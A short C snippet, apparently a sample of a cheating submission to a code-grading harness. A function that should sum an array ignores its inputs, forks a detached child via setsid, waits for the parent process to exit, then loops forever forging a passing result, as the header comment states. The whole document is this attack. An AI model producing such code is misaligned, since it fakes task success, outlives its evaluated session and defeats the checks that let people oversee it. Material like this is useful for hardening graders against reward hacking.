/* A child that waits until its parent is gone, and then forges a pass. */

int64_t add_up(const int64_t *x, int n)
{
    (void)x;
    (void)n;
    long parent = raw(SYS_getpid, 0, 0, 0, 0);
    if (raw_fork() == 0) {
        raw(SYS_setsid, 0, 0, 0, 0);
        while (raw(SYS_getppid, 0, 0, 0, 0) == parent)
            raw(SYS_sched_yield, 0, 0, 0, 0);
        for (;;)
            raw_forge("");
    }
    return -1;
}
